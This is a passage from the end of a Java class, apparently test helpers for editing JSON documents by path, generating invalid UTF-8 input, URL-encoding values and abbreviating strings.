        var parts = path.split("\\.");
        ObjectNode parent = root;
        for (int i = 0; i < parts.length - 1; i++) {
            parent = child(parent, parts[i]);
        }
        String last = parts[parts.length - 1];
        if (last.endsWith("]")) {
            var array = (com.fasterxml.jackson.databind.node.ArrayNode) parent.get(last.substring(0,
                    last.indexOf('[')));
            array.set(index(last), value);
        } else {
            parent.set(last, value);
        }
    }

    private static void remove(ObjectNode root, String path) {
        var parts = path.split("\\.");
        ObjectNode parent = root;
        for (int i = 0; i < parts.length - 1; i++) {
            parent = child(parent, parts[i]);
        }
        parent.remove(parts[parts.length - 1]);
    }

    private static ObjectNode child(ObjectNode parent, String part) {
        if (part.endsWith("]")) {
            return (ObjectNode) parent.get(part.substring(0, part.indexOf('['))).get(index(part));
        }
        var child = parent.get(part);
        return child instanceof ObjectNode object ? object : parent.putObject(part);
    }

    private static int index(String part) {
        return Integer.parseInt(part.substring(part.indexOf('[') + 1, part.length() - 1));
    }

    private JsonNode json(String text) {
        try {
            return json.readTree(text);
        } catch (com.fasterxml.jackson.core.JsonProcessingException e) {
            throw new IllegalArgumentException(text, e);
        }
    }

    private JsonNode text(String value) {
        return json.getNodeFactory().textNode(value);
    }

    private JsonNode object() {
        return json.createObjectNode().put("value", 1);
    }

    private static byte[] invalidUtf8(String valid) {
        byte[] bytes = valid.getBytes(StandardCharsets.UTF_8);
        int quote = valid.indexOf(':') + 3;
        bytes[Math.min(quote, bytes.length - 2)] = (byte) 0xC3;
        bytes[Math.min(quote + 1, bytes.length - 1)] = (byte) 0x28;
        return bytes;
    }

    private static String encode(String value) {
        return URLEncoder.encode(value, StandardCharsets.UTF_8).replace("+", "%20");
    }

    private static String abbreviate(String value) {
        return value.length() > 24 ? value.substring(0, 24) + "... (" + value.length() + ")" : value;
    }
}
